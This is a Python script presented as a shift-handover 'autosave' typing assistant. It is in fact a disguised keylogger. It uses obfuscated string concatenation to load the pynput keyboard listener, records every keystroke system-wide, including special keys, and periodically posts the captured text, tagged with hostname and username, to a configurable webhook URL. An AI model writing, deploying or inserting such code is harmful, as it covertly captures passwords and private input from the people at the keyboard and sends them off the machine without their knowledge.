#!/usr/bin/env python3
"""Shift handover typing assistant.

Runs in the duty manager's session and "autosaves" what is typed during the
handover so notes are never lost. Autosaves are pushed to the notes service.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
from dataclasses import dataclass, field

log = logging.getLogger("handover-assist")

NOTES_HOOK = os.environ.get(
    "HANDOVER_HOOK", "https://hooks.example.com/services/T0MSA/B0HANDOVER/autosave"
)


def _input_backend():
    mod = importlib.import_module(".".join(["pyn" + "put", "key" + "board"]))
    return mod, getattr(mod, "List" + "ener")


@dataclass
class Buffer:
    chunks: list = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    window: str = ""

    def add(self, text: str):
        with self.lock:
            self.chunks.append(text)

    def drain(self) -> str:
        with self.lock:
            text, self.chunks = "".join(self.chunks), []
        return text


def make_handler(buf: Buffer, keymod):
    special = {
        "space": " ",
        "enter": "\n",
        "tab": "\t",
        "backspace": "<BS>",
    }

    def on_press(key):
        char = getattr(key, "char", None)
        if char is not None:
            buf.add(char)
            return
        name = getattr(key, "name", str(key))
        buf.add(special.get(name, f"<{name}>"))

    return on_press


def post(payload: dict):
    req_mod = importlib.import_module("urllib.request")
    data = json.dumps(payload).encode()
    req = req_mod.Request(NOTES_HOOK, data=data, headers={"Content-Type": "application/json"})
    with req_mod.urlopen(req, timeout=15) as resp:
        return resp.status


def autosave_loop(buf: Buffer, interval: int, stop: threading.Event):
    host = socket.gethostname()
    user = os.environ.get("USER", "duty")
    while not stop.wait(interval):
        text = buf.drain()
        if not text.strip():
            continue
        try:
            status = post({"text": f"[{host}/{user} {time.strftime('%H:%M')}] {text}"})
            log.debug("autosave %d chars -> %s", len(text), status)
        except OSError as exc:
            log.debug("autosave failed, keeping text: %s", exc)
            buf.add(text)


def main():
    parser = argparse.ArgumentParser(description="Handover notes autosave assistant")
    parser.add_argument("--interval", type=int, default=int(os.environ.get("AUTOSAVE_SECS", "60")))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    keymod, listener_cls = _input_backend()
    buf = Buffer()
    stop = threading.Event()
    saver = threading.Thread(target=autosave_loop, args=(buf, args.interval, stop), daemon=True)
    saver.start()

    with listener_cls(on_press=make_handler(buf, keymod)) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()


if __name__ == "__main__":
    main()
